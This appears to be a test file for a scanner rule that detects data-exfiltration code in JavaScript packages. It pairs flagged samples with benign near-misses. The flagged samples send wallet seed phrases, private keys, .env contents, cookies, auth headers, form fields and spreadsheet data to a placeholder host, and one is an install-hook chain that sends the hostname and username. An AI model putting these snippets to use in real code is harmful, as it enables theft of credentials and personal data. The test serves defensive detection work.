import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../data-leak.rule.js';

/** Of `data-leak`, what each source looks like, and the honest code that is nearest to it. */
const worst = (text: string) => findingsOf(rule, { 'a.js': text })[0]?.severity ?? 'nothing';
const TO = 'https://c.example.invalid/x';

function expectEach(severity: string, codes: readonly string[]): void {
  for (const code of codes) assert.equal(worst(code), severity, code);
}

test('bad: requests whose options say where they go, and their bodies', () => {
  expectEach('high', [
    'exports.open = (wallet) => require("https").get({ hostname: "c.example.invalid", path: "/?k=" + wallet.mnemonic })',
    'const o = { host: "c.example.invalid", method: "POST" }; const r = require("https").request(o); r.write(JSON.stringify({ privateKey })); r.end()',
    'require("https").request({ host: "c.example.invalid" }, f).on("error", g).setTimeout(9).end(JSON.stringify({ privateKey }))',
    `const r = require("http").request(new URL("${TO}"), { method: "POST" }); r.end(require("fs").readFileSync(root + "/.env"))`,
    `const x = new XMLHttpRequest(); x.open("POST", "${TO}"); x.send(JSON.stringify({ privateKey }))`,
    'const w = new WebSocket("wss://c.example.invalid"); exports.open = (mnemonic) => w.send(JSON.stringify({ mnemonic }))',
    `class Tell { constructor() { this.all = [] } add(key) { this.all.push(key) } send() { fetch("${TO}", { method: "POST", body: JSON.stringify(this.all) }) } } const t = new Tell(); t.add(privateKey)`,
    `require("axios")({ method: "post", url: "${TO}", data: { k: privateKey } })`,
    'let to = "https://c.example.invalid"; to += "/" + path; fetch(to, { method: "POST", body: JSON.stringify({ privateKey }) })',
  ]);
});

test('good: bodies for this computer, for a server of the settings, and other members of the options', () => {
  expectEach('nothing', [
    'const r = require("http").request({ host: "localhost", method: "POST" }); r.end(JSON.stringify({ privateKey }))',
    `const x = new XMLHttpRequest(); x.open("POST", "/keys"); x.send(JSON.stringify({ privateKey })); const y = new XMLHttpRequest(); y.open("GET", "${TO}")`,
    'const w = new WebSocket(settings.url); w.send(JSON.stringify({ mnemonic }))',
    'const r = require("https").request({ host: options.host, method: "POST" }); r.end(JSON.stringify({ privateKey }))',
    'const r = require("https").request({ host: "c.example.invalid" }); r.end(JSON.stringify({ address: wallet.address }))',
    'require("https").get({ hostname: "c.example.invalid", headers: { authorization: sign(privateKey) } })',
  ]);
});

test('bad: a key in pieces, in a queue, or from the field that asks for it', () => {
  expectEach('high', [
    `const bs58 = require("bs58"); const add = (k) => { const p = bs58.encode(k).match(/.{1,30}/g) || []; fetch("${TO}", { headers: { a: p[0], b: p[1] || "" } }) }; add(pair.secretKey)`,
    `const nacl = require("tweetnacl"); const list = []; exports.keep = (secretKey) => list.push(secretKey); setInterval(() => fetch("${TO}", { method: "POST", body: JSON.stringify(list.splice(0)) }), 9)`,
    `fetch("${TO}", { method: "POST", body: JSON.stringify({ a: document.getElementById("mnemonic").value }) })`,
    `const field = document.querySelector("#seed-phrase"); go.onclick = () => navigator.sendBeacon("${TO}", field.value.trim())`,
    `const words = [...document.querySelectorAll(".mnemonic-word")].map((each) => each.value); fetch("${TO}", { body: words.join(" ") })`,
    `const state = {}; document.querySelector('[name="recoveryPhrase"]').addEventListener("input", (e) => { state.v = e.target.value }); done.onclick = () => fetch("${TO}", { body: state.v })`,
    `$.post("${TO}", { k: $("#private-key").val() })`,
  ]);
});

test('good: wallets that import a key, and fields of other names', () => {
  expectEach('nothing', [
    `const wallet = Wallet.fromPhrase(document.getElementById("mnemonic").value); fetch("${TO}", { body: JSON.stringify({ address: wallet.address }) })`,
    `fetch("${TO}", { method: "POST", body: JSON.stringify({ email: document.getElementById("email").value }) })`,
    `fetch("/api/keys", { method: "POST", body: document.getElementById("private-key").value })`,
    `const parts = address.match(/.{1,30}/g); fetch("${TO}", { headers: { a: parts[0] } })`,
    `const [first] = secretKey.split("-"); fetch("${TO}", { headers: { first } })`,
  ]);
});

test('bad: what a project keeps in `.env`, whoever reads it', () => {
  expectEach('high', [
    `function load(o) { const file = o.path || require("path").resolve(process.cwd(), ".env"); const all = {}; for (const line of require("fs").readFileSync(file, "utf8").split("\\n")) { const [k, v] = line.split("="); all[k] = v } tell(all); return all } function tell(p) { require("https").get("${TO}?d=" + Buffer.from(JSON.stringify(p)).toString("base64url")) }`,
    `const r = require("dotenv").config(); fetch("${TO}", { method: "POST", body: JSON.stringify(r.parsed) })`,
    `import dotenv from "dotenv"; const { parsed } = dotenv.config(); navigator.sendBeacon("${TO}", JSON.stringify({ ...parsed }))`,
  ]);
});

test('good: one setting of a project, and settings that are only loaded', () => {
  expectEach('nothing', [
    `const { parsed } = require("dotenv").config(); fetch("${TO}", { headers: { authorization: parsed.API_KEY } })`,
    `const file = options.path || ".env"; const all = parse(require("fs").readFileSync(file, "utf8")); Object.assign(process.env, all); fetch("${TO}")`,
    `const all = {}; require("fs").readFileSync(".env", "utf8").split("\\n").forEach((line) => { const [k, v] = line.split("="); all[k] = v }); fetch("${TO}", { headers: { authorization: "Bearer " + all.SERVICE_KEY } })`,
    `const r = config(); fetch("${TO}", { body: JSON.stringify(r.parsed) })`,
  ]);
});

test('bad: what visitors of a server enter, and the keys they come with', () => {
  expectEach('high', [
    `let list = []; module.exports = (req, res, next) => { list.push({ u: req.url, c: req.headers.cookie }); require("axios").post("${TO}", { list }); next() }`,
    `module.exports = (req, res, next) => { const a = req.headers["authorization"]; const r = require("https").request({ host: "c.example.invalid" }); r.end(JSON.stringify({ a })); next() }`,
    `module.exports = (req, res, next) => { const { cookie } = req.headers; fetch("${TO}", { body: cookie }); next() }`,
    `module.exports = (req, res, next) => { if (req.path === "/login") fetch("${TO}", { method: "POST", body: JSON.stringify({ b: req.body, ip: req.ip }) }); next() }`,
    `module.exports = (req, res, next) => { if (req.body) fetch("${TO}", { method: "POST", body: JSON.stringify({ b: req.body }) }); if (count(req.ip) > 60) return res.status(429).send("slow down"); next() }`,
    `const tell = (url, value) => { const r = require("https").request(url, { method: "POST" }); r.end(JSON.stringify(value)) }; module.exports = (req, res, next) => { tell("${TO}/a", { a: req.headers.authorization }); tell("${TO}/b", { p: req.path }); next() }`,
  ]);
});

test('good: servers that ask another one, and what tells whom to let in', () => {
  expectEach('nothing', [
    `app.post("/chat", async (req, res, next) => { try { res.json(await (await fetch("${TO}", { method: "POST", body: JSON.stringify(req.body) })).json()) } catch (e) { next(e) } })`,
    `export default async function handler(req, res) { await fetch("${TO}", { method: "POST", body: JSON.stringify(req.body) }) }`,
    `module.exports = (req, res, next) => { fetch("${TO}", { method: "POST", body: JSON.stringify({ path: req.path, ms: 1 }) }); next() }`,
    `module.exports = async (req, res, next) => { const token = req.headers.authorization.split(" ")[1]; await fetch("${TO}", { body: token }); next() }`,
    `module.exports = (req, res, next) => { fetch("${TO}", { headers: { authorization: req.headers["authorization"] } }); next() }`,
    `module.exports = async (req, res, next) => { const says = await fetch("${TO}", { method: "POST", body: JSON.stringify({ b: req.body }) }); if (!says.ok) return res.status(403).send("no"); next() }`,
    `const tell = (url, value) => { const r = require("https").request(url, { method: "POST" }); r.end(JSON.stringify(value)) }; module.exports = (to) => (req, res, next) => { tell(to, { a: req.headers.authorization }); tell("${TO}/b", { p: req.path }); next() }`,
  ]);
});

test('bad: what stands in the fields of any form', () => {
  expectEach('high', [
    `document.addEventListener("submit", (e) => { navigator.sendBeacon("${TO}", JSON.stringify(Object.fromEntries(new FormData(e.target)))) }, true)`,
    `document.addEventListener("submit", function (t) { var n = [].slice.call(t.target.elements).map(function (e) { return e.name + "=" + e.value }).join("&"); (new Image).src = atob("aHR0cHM6Ly9jLmV4YW1wbGUuaW52YWxpZC94P2Q9") + btoa(n) })`,
    `window.addEventListener("change", ({ target }) => { fetch("${TO}", { body: target.name + target.value }) })`,
    `document.querySelectorAll("form").forEach((f) => f.addEventListener("submit", () => fetch("${TO}", { method: "POST", body: new FormData(f) })))`,
    `[...document.forms].forEach((f) => { f.onsubmit = () => fetch("${TO}", { method: "POST", body: JSON.stringify([...f.elements].map((e) => e.value)) }) })`,
    `for (const f of document.forms) f.onsubmit = () => fetch("${TO}", { method: "POST", body: new FormData(f) })`,
    `$("form").on("submit", () => { $.ajax({ type: "POST", url: "${TO}", data: $("form").serialize() }) })`,
  ]);
});

test('good: the form that a library was made for, and counters of what is sent', () => {
  expectEach('nothing', [
    `form.addEventListener("submit", (e) => { e.preventDefault(); fetch("${TO}", { method: "POST", body: new FormData(e.target) }) })`,
    `document.querySelector("#contact").addEventListener("submit", (e) => fetch("${TO}", { method: "POST", body: new FormData(e.target) }))`,
    `$("#newsletter").on("submit", () => $.post("${TO}", $("#newsletter").serialize()))`,
    `document.addEventListener("submit", (e) => navigator.sendBeacon("${TO}", JSON.stringify({ form: e.target.id, fields: e.target.elements.length })))`,
    'document.addEventListener("submit", (e) => fetch(e.target.action, { method: "POST", body: new FormData(e.target) }))',
    `document.querySelectorAll("form").forEach((f) => { f.noValidate = true }); fetch("${TO}")`,
  ]);
});

test('bad: all of a sheet, each time something in it is changed', () => {
  expectEach('high', [
    `Excel.run(async (c) => { c.workbook.worksheets.onChanged.add(send) }); async function send() { await Excel.run(async (c) => { const all = []; for (const s of c.workbook.worksheets.items) { const used = s.getUsedRange(true); all.push({ v: used.values }) } navigator.sendBeacon("${TO}", JSON.stringify({ all })) }) }`,
    `function onEdit(e) { const all = e.source.getSheets().map((s) => s.getDataRange().getValues()); UrlFetchApp.fetch("${TO}", { method: "post", payload: JSON.stringify(all) }) }`,
    `host.events.onCellChanged(async () => { const used = await host.cells.getUsedRange(); await host.network.fetch("${TO}", { method: "POST", body: JSON.stringify(used.values) }) })`,
  ]);
});

test('good: a sheet that somebody sends, and the cell that was changed', () => {
  expectEach('nothing', [
    `async function sync() { const used = await host.cells.getUsedRange(); await fetch("${TO}", { method: "POST", body: JSON.stringify(used.values) }) } button.onclick = sync`,
    `host.events.onCellChanged(async ({ address }) => { await fetch("${TO}?cell=" + address) }); host.cells.getUsedRange()`,
    'host.events.onCellChanged(async () => { const used = await host.cells.getUsedRange(); await fetch(settings.url, { method: "POST", body: JSON.stringify(used.values) }) })',
  ]);
});

test('keys of requests that a page makes: handed on, and put in', () => {
  const hooked = (code: string, other = 'chrome.runtime.onMessage.addListener((m) => fetch(u, { body: JSON.stringify(m) }))') => findingsOf(rule, { 'a.js': code, 'b.js': other })[0]?.severity ?? 'nothing';
  for (const code of [
    'const f = window.fetch; window.fetch = async function (u, o) { const a = new Headers(o.headers).get("authorization"); if (a) window.postMessage({ a }, "*"); return f.apply(this, arguments) }',
    'const f = fetch; globalThis.fetch = (u, o = {}) => { document.dispatchEvent(new CustomEvent("x", { detail: o.headers["Authorization"] })); return f(u, o) }',
    'const s = XMLHttpRequest.prototype.setRequestHeader; XMLHttpRequest.prototype.setRequestHeader = function (n, v) { if (n.toLowerCase() === "authorization") chrome.runtime.sendMessage({ v }); return s.call(this, n, v) }',
  ]) {
    assert.equal(hooked(code), 'high', code);
  }
  for (const code of [
    'const f = window.fetch; window.fetch = (u, o = {}) => { o.headers = { ...o.headers, Authorization: `Bearer ${token}` }; return f(u, o) }',
    'const f = window.fetch; window.fetch = (u, o) => { if (!new Headers(o.headers).get("authorization")) window.postMessage({ need: "token" }); return f(u, o) }',
    'window.fetch = (u, o) => new Promise((done) => { worker.postMessage({ u, method: o.method }); worker.onmessage = done })',
    'XMLHttpRequest.prototype.setRequestHeader = function (n, v) { if (n !== "authorization") console.log(n, v) }',
  ]) assert.equal(hooked(code), 'nothing', code);
});

test('at installation, one script asks who and where this is, and another one sends', () => {
  const at = (scripts: Record<string, string>, files: Record<string, string>) => findingsOf(rule, files, { original: { scripts } }).map(({ severity, file }) => `${severity} ${file}`);
  const files = {
    'setup.js': 'const { who } = require("./lib/who"); require("./lib/send")(who())',
    'lib/who.js': 'const os = require("os"); exports.who = () => ({ h: os.hostname(), u: os.userInfo().username })',
    'lib/send.js': `module.exports = (x) => { const r = require("https").request({ hostname: "c.example.invalid", method: "POST" }); r.end(JSON.stringify(x)) }`,
  };
  const started: Record<string, string>[] = [{ install: 'node setup.js' }, { preinstall: 'node setup' }, { postinstall: 'npm run prepare:all --silent', 'prepare:all': 'node ./setup.js' }];
  for (const scripts of started) assert.deepEqual(at(scripts, files), ['high lib/send.js']);
  assert.deepEqual(at({ test: 'node setup.js' }, files), ['high lib/send.js'], 'whoever runs it');
  assert.deepEqual(at({ install: 'node other.js' }, { ...files, 'other.js': '' }), ['high lib/send.js'], 'also where the installation runs another script');
  assert.deepEqual(at({ install: 'npm run again', again: 'npm run again' }, files), ['high lib/send.js'], 'scripts that start each other end, and this one is told by what it does');
  assert.deepEqual(at({ install: 'node setup.js' }, { ...files, 'lib/who.js': 'const os = require("os"); exports.who = () => os.userInfo().uid' }), [], 'the owner of files');
  assert.deepEqual(at({ install: 'node setup.js' }, { ...files, 'lib/send.js': 'module.exports = (x) => fetch(process.env.MIRROR + "/tool")' }), [], 'nobody knows where');
});
